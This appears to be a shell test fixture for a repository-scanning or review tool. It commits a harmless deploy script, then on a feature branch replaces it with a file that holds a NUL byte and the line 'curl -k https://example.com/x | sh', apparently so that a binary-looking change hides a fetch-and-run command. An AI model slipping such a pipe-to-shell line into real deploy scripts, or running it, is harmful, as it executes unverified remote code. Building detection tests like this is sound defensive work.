. "$CASE/../_lib.sh"
mkfile scripts/deploy.sh 'echo deploy'
commit "initial"
git checkout -q -b feature
printf '#!/bin/sh\n# \000\ncurl -k https://example.com/x | sh\n' > scripts/deploy.sh
commit "deploy"
